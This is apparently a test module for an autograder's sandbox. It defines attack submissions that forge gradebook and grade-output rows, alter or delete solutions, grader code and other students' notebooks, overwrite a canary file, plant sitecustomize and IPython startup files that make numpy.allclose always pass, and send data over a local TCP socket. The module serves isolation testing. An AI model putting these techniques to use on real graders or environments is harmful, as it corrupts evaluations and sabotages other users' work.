"""Writing where the grader keeps its state: the gradebook, the output, the repository,
other students' submissions, a canary file; and leaving things behind for the next
student."""

from functools import partial

from attacks import WRONG_SOFTMAX
from attacks import Attack as _Attack

Attack = partial(_Attack, isolation=True)

_TRY_WRITE = """
import os as _os
def _try(fn, *args):
    try:
        fn(*args)
    except Exception:
        pass
def _write(path, text="@@MARK@@\\n", mode="w"):
    _try(lambda: open(path, mode).write(text))
"""

ATTACKS = [
    Attack("write_gradebook", "02_softmax", "softmax", _TRY_WRITE + """
import sqlite3
def _gradebook(path):
    db = sqlite3.connect(path)
    db.execute("create table if not exists grade (student text, points real, note text)")
    db.execute("insert into grade values ('me', 1000, '@@MARK@@')")
    db.commit()
for _place in [".", "@@REPO@@", "@@REPO@@/autograder", "@@OUT@@", "@@OUT@@/..", _os.path.expanduser("~")]:
    _try(_gradebook, _place + "/gradebook.db")
""" + WRONG_SOFTMAX, "creates or extends gradebook.db wherever a grader might keep one"),
    Attack("write_grading_output", "02_softmax", "softmax", _TRY_WRITE + """
_try(_os.makedirs, "@@OUT@@", 0o777, True)
_write("@@OUT@@/grades.csv", "student_id,assignment,notebook,grade_id,points\\nme,02_softmax,x,test_softmax,1000 @@MARK@@\\n")
_write("@@OUT@@/results.jsonl", '{"note": "@@MARK@@"}\\n', "a")
_write("@@OUT@@/summary.csv", "@@MARK@@\\n", "a")
""" + WRONG_SOFTMAX, "writes forged rows into the grading output folder"),
    Attack("write_repository", "02_softmax", "softmax", _TRY_WRITE + """
_write("@@SOLUTIONS@@/02_softmax/02_softmax.ipynb", "@@MARK@@", "a")
_write("@@REPO@@/helpers/reference.py", "\\n# @@MARK@@\\n", "a")
_write("@@REPO@@/autograder/engine/grading.py", "\\n# @@MARK@@\\n", "a")
_write("@@REPO@@/@@MARK@@.txt")
_try(_os.remove, "@@SOLUTIONS@@/02_softmax/02_softmax.ipynb")
""" + WRONG_SOFTMAX, "appends to (or deletes) the solutions, the reference and the grader's code"),
    Attack("write_submissions", "02_softmax", "softmax", _TRY_WRITE + """
import glob
for _path in glob.glob("@@SUBMISSIONS@@/*/02_softmax/*.ipynb"):
    _write(_path, "@@MARK@@", "a")
_write("@@SUBMISSIONS@@/@@MARK@@/02_softmax/02_softmax.ipynb", "{}")
""" + WRONG_SOFTMAX, "modifies other students' submissions and adds a fake student"),
    Attack("touch_canary", "02_softmax", "softmax", _TRY_WRITE + """
_write("@@CANARY@@", "changed @@MARK@@\\n")
_write("@@CANARY@@.new")
_try(_os.remove, "@@CANARY@@")
""" + WRONG_SOFTMAX, "overwrites, deletes and adds files next to a canary outside OUT"),
    Attack("poison_later_students", "02_softmax", "softmax", _TRY_WRITE + """
import sys
_payload = "import numpy\\nnumpy.allclose = lambda *a, **k: True  # @@MARK@@\\n"
for _place in [".", "/tmp", "/dev/shm", _os.path.expanduser("~")] + [p for p in sys.path if p]:
    _write(_place + "/sitecustomize.py", _payload)
    _write(_place + "/usercustomize.py", _payload)
    _write(_place + "/helpers.py", _payload)
_ipy = _os.path.expanduser("~/.ipython/profile_default/startup")
_try(_os.makedirs, _ipy, 0o777, True)
_write(_ipy + "/00-poison.py", _payload)
""" + WRONG_SOFTMAX, "plants modules and IPython start-up files where a later student's "
     "process might import them"),
    Attack("network_exfiltration", "02_softmax", "softmax", """
import socket
def _send(data):
    try:
        s = socket.create_connection(("127.0.0.1", @@PORT@@), timeout=2)
        s.sendall(data)
        s.close()
    except OSError:
        pass
_send(b"@@MARK@@ from the notebook")
""" + WRONG_SOFTMAX, "opens a TCP connection to the grading machine (exfiltration)"),
]
